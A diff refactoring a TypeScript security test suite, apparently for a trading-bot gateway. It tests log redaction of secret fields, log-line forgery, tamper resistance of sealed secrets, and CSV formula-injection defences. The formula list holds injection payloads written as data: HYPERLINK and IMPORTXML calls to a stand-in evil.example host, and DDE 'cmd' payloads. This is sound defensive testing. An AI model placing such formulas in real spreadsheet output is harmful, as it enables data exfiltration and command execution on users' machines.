@@ -3,7 +3,7 @@ import { itemLines } from '../../../gateway/cli/lines.ts'
 import { createLog } from '../../../gateway/kit/log.ts'
 import { createSecretBox } from '../../../gateway/kit/secret-box.ts'
 import { type Case, type Family, family } from '../attack.ts'
-import { never } from './checks.ts'
+import { problemIf } from './checks.ts'
 
 const LOG = 'gateway/kit/log.ts'
 const SCRUB = 'gateway/kit/scrub.ts'
@@ -48,17 +48,22 @@ const PLACES: Record<string, (text: string) => [fields: object, message: string]
   'deep in a field': (text) => [{ a: { b: [{ c: text }] } }, 'failed'],
 }
 const FIELDS = [
-  ...['apiKey', 'authorization', 'cookie', 'set-cookie', 'x-csrf-token', 'token', 'tradeUrl', 'refreshToken'],
-  ...[
-    'identity_secret',
-    'shared_secret',
-    'secret',
-    'webhookSecret',
-    'user_token',
-    'partner_token',
-    'password',
-    'masterKey',
-  ],
+  'apiKey',
+  'authorization',
+  'cookie',
+  'set-cookie',
+  'x-csrf-token',
+  'token',
+  'tradeUrl',
+  'refreshToken',
+  'identity_secret',
+  'shared_secret',
+  'secret',
+  'webhookSecret',
+  'user_token',
+  'partner_token',
+  'password',
+  'masterKey',
 ]
 
 export const canaries: Family = family({
@@ -82,14 +87,14 @@ export const canaries: Family = family({
     },
   },
   honest: () =>
-    never(!lineOf({ botId: '7' }, 'bot refused').includes('"botId":"7"'), 'a line lacks its field'),
+    problemIf(!lineOf({ botId: '7' }, 'bot refused').includes('"botId":"7"'), 'a line lacks its field'),
   cases: () => [
     ...Object.entries(TEXTS).flatMap(([what, text]) =>
       Object.entries(PLACES).map(([place, linesOf]) => ({
         what: `${what} ${place}`,
         by: 'forms of secrets' as const,
         attack: () =>
-          never(
+          problemIf(
             lineOf(...linesOf(text))
               .toLowerCase()
               .includes(CORE),
@@ -101,7 +106,7 @@ export const canaries: Family = family({
       what: `a field ${field}`,
       by: 'names of fields' as const,
       attack: () =>
-        never(
+        problemIf(
           lineOf({ call: { [field]: 'plain words' } }, 'x').includes('plain words'),
           'appears in the log',
         ),
@@ -110,7 +115,7 @@ export const canaries: Family = family({
       what: `${field} of an error of PostgreSQL`,
       by: 'rows quoted by database errors' as const,
       attack: () =>
-        never(
+        problemIf(
           lineOf({ err: Object.assign(new Error('x'), { [field]: 'plain words' }) }, 'x').includes(
             'plain words',
           ),
@@ -154,7 +159,7 @@ export const forgedLines: Family = family({
     },
   },
   honest: () =>
-    never(!lineOf({}, 'all is well', true).endsWith('all is well\n'), 'a readable line is changed'),
+    problemIf(!lineOf({}, 'all is well', true).endsWith('all is well\n'), 'a readable line is changed'),
   cases: () => [
     ...CONTROLS.flatMap((control) =>
       [
@@ -163,13 +168,13 @@ export const forgedLines: Family = family({
       ].map(([place, line]) => ({
         what: `${JSON.stringify(control)} ${place}`,
         by: 'control characters that JSON keeps' as const,
-        attack: () => never(/[\u007f-\u009f]/.test(line()), 'appears in the log'),
+        attack: () => problemIf(/[\u007f-\u009f]/.test(line()), 'appears in the log'),
       })),
     ),
     ...BREAKS.map((control) => ({
       what: `${JSON.stringify(control)} before a forged line`,
       by: 'control characters in readable lines' as const,
-      attack: () => never(/\p{Cc}./u.test(lineOf({}, `x${control}${FORGED}`, true)), 'begins a new line'),
+      attack: () => problemIf(/\p{Cc}./u.test(lineOf({}, `x${control}${FORGED}`, true)), 'begins a new line'),
     })),
   ],
 })
@@ -178,7 +183,7 @@ const KEY = Buffer.alloc(32, 5)
 const PLACE = 'bot 1 refresh_token'
 const SECRET = 'a token of a bot'
 
-function opened(sealed: Buffer, place: string, key = KEY): string | undefined {
+function tryToOpen(sealed: Buffer, place: string, key = KEY): string | undefined {
   try {
     return createSecretBox(key).open(sealed, place)
   } catch {
@@ -186,7 +191,7 @@ function opened(sealed: Buffer, place: string, key = KEY): string | undefined {
   }
 }
 
-export const sealed: Family = family({
+export const copiedDatabase: Family = family({
   number: 42,
   name: 'a copied or changed database',
   kind: 'pure',
@@ -209,7 +214,7 @@ export const sealed: Family = family({
   },
   honest: () => {
     const box = createSecretBox(KEY)
-    return never(box.open(box.seal(SECRET, PLACE), PLACE) !== SECRET, 'a sealed text cannot be opened')
+    return problemIf(box.open(box.seal(SECRET, PLACE), PLACE) !== SECRET, 'a sealed text cannot be opened')
   },
   cases() {
     const whole = createSecretBox(KEY).seal(SECRET, PLACE)
@@ -224,7 +229,7 @@ export const sealed: Family = family({
     const moved: Case<'bound to its place' | 'authenticated bytes'>[] = places.map((place) => ({
       what: `moved to '${place}'`,
       by: 'bound to its place',
-      attack: () => never(opened(whole, place) !== undefined, 'opens'),
+      attack: () => problemIf(tryToOpen(whole, place) !== undefined, 'opens'),
     }))
     const flipped = Array.from({ length: whole.length - 1 }, (_, index) => ({
       what: `a bit of byte ${index + 1}`,
@@ -232,7 +237,7 @@ export const sealed: Family = family({
       attack() {
         const other = Buffer.from(whole)
         other[index + 1] = (other[index + 1] ?? 0) ^ 1
-        return never(opened(other, PLACE) !== undefined, 'opens')
+        return problemIf(tryToOpen(other, PLACE) !== undefined, 'opens')
       },
     }))
     const keys = [0, 1, 31].map((at) => ({
@@ -241,49 +246,64 @@ export const sealed: Family = family({
       attack() {
         const other = Buffer.from(KEY)
         other[at] = 6
-        return never(opened(whole, PLACE, other) !== undefined, 'opens')
+        return problemIf(tryToOpen(whole, PLACE, other) !== undefined, 'opens')
       },
     }))
     const cut = {
       what: 'cut short',
       by: 'authenticated bytes' as const,
-      attack: () => never(opened(whole.subarray(0, -1), PLACE) !== undefined, 'opens'),
+      attack: () => problemIf(tryToOpen(whole.subarray(0, -1), PLACE) !== undefined, 'opens'),
     }
     return [...moved, ...flipped, ...keys, cut]
   },
 })
 
 const FORMULAS = [
-  ...[
-    '=1+1',
-    '=HYPERLINK("https://evil.example","x")',
-    '+1+1',
-    '-1+1',
-    '@SUM(1)',
-    '\t=1+1',
-    "=cmd|'/c calc'!A1",
-  ],
-  ...[
-    '==1',
-    '+cmd',
-    '-cmd',
-    '@x',
-    '=\n1',
-    '=","',
-    "='x'",
-    '=IMPORTXML("https://evil.example","//a")',
-    '-2+3+cmd',
-  ],
+  '=1+1',
+  '=HYPERLINK("https://evil.example","x")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  "=cmd|'/c calc'!A1",
+  '==1',
+  '+cmd',
+  '-cmd',
+  '@x',
+  '=\n1',
+  '=","',
+  "='x'",
+  '=IMPORTXML("https://evil.example","//a")',
+  '-2+3+cmd',
   // White space before a formula, which spreadsheets skip, and full-width characters.
-  ...['\r=1+1', '\r\n=1+1', '\n=1+1', '\r@SUM(1)', '\n+cmd', '\t-1+cmd'],
-  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '＝HYPERLINK("https://evil.example")', "＝cmd|'/c calc'!A1"],
+  '\r=1+1',
+  '\r\n=1+1',
+  '\n=1+1',
+  '\r@SUM(1)',
+  '\n+cmd',
+  '\t-1+cmd',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '＝HYPERLINK("https://evil.example")',
+  "＝cmd|'/c calc'!A1",
 ]
 
 /** The first character of the cell, as a spreadsheet reads the CSV. */
 const firstCharacter = (marketHashName: string): string => {
   const item = {
-    ...{ item: '1', bot: 'b', botSteamId: '7', appId: 570, contextId: '2', assetId: '3', marketHashName },
-    ...{ priceMinor: 1n, currency: 'USD' as const, receivedAt: new Date(0), protectedUntil: null },
+    item: '1',
+    bot: 'b',
+    botSteamId: '7',
+    appId: 570,
+    contextId: '2',
+    assetId: '3',
+    marketHashName,
+    priceMinor: 1n,
+    currency: 'USD' as const,
+    receivedAt: new Date(0),
+    protectedUntil: null,
   }
   const line = itemLines({ items: [item] })[1] ?? ''
   return line.slice('1,b,7,570,3,'.length).replace(/^"/, '').slice(0, 1)
@@ -299,11 +319,11 @@ export const formulas: Family = family({
       off: [{ file: CSV, from: 'FORMULA.test(text)', to: 'false' }],
     },
   },
-  honest: () => never(firstCharacter('Knife') !== 'K', 'a plain name is changed'),
+  honest: () => problemIf(firstCharacter('Knife') !== 'K', 'a plain name is changed'),
   cases: () =>
     FORMULAS.map((name) => ({
       what: JSON.stringify(name),
       by: 'plain text' as const,
-      attack: () => never(/[=+\-@\t\r\n＝＋－＠]/.test(firstCharacter(name)), 'starts a formula'),
+      attack: () => problemIf(/[=+\-@\t\r\n＝＋－＠]/.test(firstCharacter(name)), 'starts a formula'),
     })),
 })
